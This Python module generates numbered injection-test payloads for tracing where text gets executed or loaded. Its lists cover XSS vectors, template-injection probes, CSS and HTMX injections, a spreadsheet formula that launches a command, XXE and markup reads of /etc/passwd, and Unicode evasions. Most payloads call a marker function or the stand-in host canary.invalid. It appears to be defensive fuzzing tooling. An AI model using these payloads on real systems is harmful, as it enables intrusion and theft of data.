"""Texts that would run, draw, load, count or break out wherever a text is taken for more than one.

In each, `§` is a number of its own, by which harm is traced; `hit` is what a script of theirs would
call, `canary.invalid` what it would ask, and `q7z` an element or attribute that nobody else has.
"""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

SCRIPTS = (
    "<script>hit(§)</script>",
    "</script><script>hit(§)</script>",
    "</ScRiPt ><ScRiPt>hit(§)</ScRiPt>",
    "</textarea><script>hit(§)</script>",
    "</title><script>hit(§)</script>",
    "</style><script>hit(§)</script>",
    "</option></select><script>hit(§)</script>",
    "--><script>hit(§)</script>",
    "<script src=//canary.invalid/§></script>",
    "<script type=module>hit(§)</script>",
    '"}</script><script>hit(§)</script>',
    '"});hit(§);//',
    "';hit(§);//",
    "\\';hit(§);//",
    "`+hit(§)+`",
    "\u2028hit(§)",
)
ELEMENTS = (
    "<img src=//canary.invalid/§ onerror=hit(§)>",
    "<img src=x onerror=hit(§)>",
    "<svg onload=hit(§)>",
    "<svg><script>hit(§)</script></svg>",
    "<svg><animate onbegin=hit(§) attribute§ame=x></svg>",
    "<svg><foreignObject><q7z>§</q7z></foreignObject></svg>",
    "<math><a xlink:href=javascript:hit(§)>§</a></math>",
    "<details open ontoggle=hit(§)>§",
    "<iframe src=//canary.invalid/§></iframe>",
    "<iframe srcdoc='<script>parent.hit(§)</script>'></iframe>",
    "<object data=//canary.invalid/§></object>",
    "<embed src=//canary.invalid/§>",
    "<base href=//canary.invalid/§/>",
    "<meta http-equiv=refresh content=0;url=//canary.invalid/§>",
    "<link rel=stylesheet href=//canary.invalid/§>",
    "<form action=//canary.invalid/§><button>§",
    "<form id=ballot name=cookie q7z>§",
    "<a id=hit name=hit q7z>§",
    "<div id=stage q7z>§</div>",
    "<q7z>§</q7z>",
    "<!-- §",
    "<plaintext q7z>§",
)
ATTRIBUTES = (
    '" onfocus=hit(§) autofocus q7z="',
    "' onmouseover='hit(§)' q7z='",
    '"><q7z onclick=hit(§)>',
    "'><q7z>§",
    "` onload=hit(§) q7z=`",
    "§ onpointerenter=hit(§) q7z",
    '" style="background:url(//canary.invalid/§)" q7z="',
)
ADDRESSES = (
    "javascript:hit(§)",
    "JaVaScRiPt:hit(§)//",
    "java\tscript:hit(§)",
    "<a href=javascript:hit(§) q7z>§</a>",
    "data:text/html,<script>hit(§)</script>",
    "//canary.invalid/§",
    "https://canary.invalid/§",
    "vbscript:hit(§)",
)
TEMPLATES = (
    "{{7*7}}q7z§",
    "{% raw %}q7z§",
    "{{ config }}§",
    "{#§#}q7z",
    "${7*7}q7z§",
    "#{7*7}q7z§",
    "<%= 7*7 %>q7z§",
    "%(count)s %s %d {0} §",
    "${hit(§)}",
    "{{constructor.constructor('hit(§)')()}}",
)
STYLES = (
    "<style>*{background:url(//canary.invalid/§)}</style>",
    "<p style=background:url(//canary.invalid/§) q7z>§",
    "}*{background:url(//canary.invalid/§)}",
    "@import url(//canary.invalid/§);",
    "expression(hit(§))",
)
OF_HTMX = (
    "<b hx-get=/b/q7z hx-trigger=load>§</b>",
    "<b hx-on:load=hit(§) q7z>§</b>",
    "<b hx-on--load=hit(§) q7z>§</b>",
    "<b hx-vals=js:{x:hit(§)} q7z>§</b>",
    "<template hx type=partial hx-target=body><q7z>§</q7z></template>",
    "<hx-partial hx-target=body><q7z>§</q7z></hx-partial>",
)
FORMULAS = (
    "=cmd|'/C calc'!A§",
    "=§+§",
    "+1+§",
    "-1-§",
    "@SUM(§)",
    '=HYPERLINK("//canary.invalid/§")',
    "\t=1+§",
    "＝1+§",
)
MARKUP = (
    '#import "x": §',
    '#eval("7*7") §',
    '#read("/etc/passwd") §',
    "#panic(§)",
    "$x^§$ *q7z*",
    "@ref§ <label§>",
    "[a](javascript:hit(§))",
    "<!DOCTYPE x [<!ENTITY q7z SYSTEM 'file:///etc/passwd'>]>§",
    "&q7z;§",
    "<![CDATA[<script>hit(§)</script>]]>",
    "]]><script>hit(§)</script>",
    "<?xml version='1.0'?>§",
    "<w:p xmlns:w='q7z'>§</w:p>",
    "&lt;img src=x onerror=hit(§)&gt;",
    "&#60;script&#62;hit(§)",
    "%3Cscript%3Ehit(§)%3C/script%3E",
)
LETTERS = (
    "\u202e<script>hit(§)</script>",
    "＜script＞hit(§)",
    "<scr\u00adipt>hit(§)",
    "\ufeff<script>hit(§)</script>",
    "İ<img src=x onerror=hit(§)>",
    "ŉ<svg onload=hit(§)>",
    "BEGIN:VCALENDAR\r\nq7z:§",
    "§\nATTACH:q7z",
    "§; X-Y=q7z:1,2\\n",
)
SEEDS = (
    *(*SCRIPTS, *ELEMENTS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *STYLES),
    *(*OF_HTMX, *FORMULAS, *MARKUP, *LETTERS),
)
TWISTS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda text: f"x {text}",
    lambda text: f"{text} x",
    lambda text: text + text,
    lambda text: text.replace(" ", "/"),
    lambda text: f'">{text}',
    lambda text: f"'>{text}<!--",
    lambda text: f"{text}\n{text}",
)


@dataclass(frozen=True)
class Payload:
    number: int
    text: str

    @property
    def squeezed(self) -> str:
        return squeezed(self.text)


def squeezed(text: str) -> str:
    """Returns letters and digits alone: pages and documents set their own quotes and spaces. What
    was taken for markup is missing, what was escaped twice has more."""
    return re.sub(r"[\W_]", "", text).casefold()


def payloads(seed: int, seeds: Sequence[str] = SEEDS) -> Iterator[Payload]:
    """Yields every seed in every twist, in an order of chance, again and again."""
    chance, number = random.Random(seed), 1000
    while True:
        whole = [twist(text) for text in seeds for twist in TWISTS]
        chance.shuffle(whole)
        for text in whole:
            number += 1
            yield Payload(number, text.replace("§", str(number)))
